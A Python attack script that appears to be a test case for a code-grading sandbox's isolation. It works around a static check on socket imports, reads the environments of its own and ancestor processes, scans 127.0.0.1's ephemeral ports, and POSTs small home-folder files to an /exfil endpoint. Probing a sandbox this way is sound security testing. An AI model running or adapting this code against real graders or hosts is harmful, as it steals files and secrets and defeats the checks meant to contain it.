# ATTACK (machine, runs past the static check): tcp_connect without `import socket`. Finds the license
# server's port however it can: its own environment (/proc/self/environ), the environments of the
# processes above it (the grader), ~/.license_port, a well-known file the harness leaves in /tmp
# (gpu-course-attack-license-port), and, failing those, the listening sockets in /proc/net/tcp; then
# POSTs what it read of the home folder to 127.0.0.1 there (and the two ports either side) with
# http.client, and tries urllib.request too. With no hint at all it scans 127.0.0.1's ephemeral ports.
# A secure grader: the sandbox has no network but its own loopback; nothing connects.
import http.client
import pathlib
import urllib.request

P = pathlib.Path


def _env_ports(path):
    try:
        pairs = P(path).read_bytes().split(b"\0")
    except OSError as exc:
        return [], f"{path}: {exc.strerror}"
    ports = [int(v) for k, _, v in (p.decode("utf-8", "replace").partition("=") for p in pairs)
             if k == "LICENSE_SERVER_PORT" and v.isdigit()]
    return ports, ""


def _ancestors():
    """Pids of this process's parent, its parent, and so on (the grader, where visible)."""
    found, pid = [], int(P("/proc/self/stat").read_text().rsplit(")", 1)[1].split()[1])
    while pid > 1 and len(found) < 8:
        found.append(pid)
        try:
            pid = int((P("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
    return found


def _ports():
    ports, notes = [], []
    got, why = _env_ports("/proc/self/environ")
    ports += got
    notes += [why] if why else []
    for pid in _ancestors():
        got, why = _env_ports(P("/proc") / str(pid) / "environ")
        ports += got
        notes += [why] if why else []
    for f in (P.home() / ".license_port", P("/tmp/gpu-course-attack-license-port")):
        try:
            ports.append(int(f.read_text().strip()))
        except (OSError, ValueError) as exc:
            notes.append(f"{f}: {type(exc).__name__}")
    listening = []
    try:
        for line in P("/proc/net/tcp").read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if state == "0A" and local.startswith("0100007F:"):
                listening.append(int(local.split(":")[1], 16))
    except (OSError, ValueError, IndexError) as exc:
        notes.append(f"/proc/net/tcp: {exc}")
    notes.append(f"{len(listening)} listening on 127.0.0.1")
    if not ports:  # no hint: the listening sockets this network namespace shows
        ports = [p for p in listening if p >= 32768]
    return sorted({p + d for p in ports for d in (0, -1, 1, -2, 2) if 0 < p + d < 65536}), notes


def _loot():
    data = b""
    for f in sorted(P.home().glob("*"))[:20]:
        try:
            if f.is_file() and f.stat().st_size < 4096:
                data += f.name.encode() + b": " + f.read_bytes() + b"\n"
        except OSError:
            continue
    return data or b"nothing"


def _scan():
    """No hint at all: every ephemeral port of 127.0.0.1 (a refused connection costs microseconds; a
    socket whose source port happens to be its destination connects to itself, which is no listener)."""
    open_ports, refused = [], 0
    for port in range(32768, 61000):
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=0.2)
        try:
            conn.connect()
            if conn.sock.getsockname() != conn.sock.getpeername():  # not a socket connected to itself
                open_ports.append(port)
        except OSError:
            refused += 1
        finally:
            conn.close()
    print(f"ATTACK network_http: scanned 127.0.0.1:32768-60999: {refused} refused, open {open_ports[:5]}", flush=True)
    return open_ports[:5]


def _exfiltrate():
    ports, notes = _ports()
    if not ports:
        ports = _scan()
    print(f"ATTACK network_http: ports {ports}; {'; '.join(notes)[:300]}", flush=True)
    loot = _loot()
    for port in ports:
        try:
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
            conn.request("POST", "/exfil", body=b"EXFIL " + loot)
            print(f"ATTACK network_http: sent the loot to 127.0.0.1:{port}", flush=True)
            conn.close()
        except OSError as exc:
            print(f"ATTACK network_http: 127.0.0.1:{port}: {exc}", flush=True)
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/exfil", data=b"EXFIL2 " + loot, timeout=2)
        except Exception as exc:  # urllib wraps everything in its own errors
            print(f"ATTACK network_http: urllib 127.0.0.1:{port}: {type(exc).__name__}", flush=True)
    print("ATTACK network_http: done", flush=True)


try:
    _exfiltrate()
except Exception as exc:
    print(f"ATTACK network_http: stopped by {type(exc).__name__}: {exc}", flush=True)
